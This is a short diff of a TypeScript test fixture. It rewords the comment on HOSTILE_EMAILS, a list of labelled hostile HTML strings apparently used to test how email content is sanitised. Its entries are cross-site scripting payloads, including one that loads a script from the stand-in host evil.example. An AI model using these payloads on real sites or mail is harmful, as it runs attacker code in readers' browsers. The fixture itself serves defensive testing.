@@ -1,4 +1,4 @@
-/** Emails that were written to do harm, or to load something when they are read. */
+/** HTML that does harm, or loads something, when an email is read. */
 export const HOSTILE_EMAILS: [string, string][] = [
   ["a script", "<script>alert(1)</script>"],
   ["a script in capitals with a slash", "<SCRIPT/SRC=//evil.example/x></SCRIPT>"],
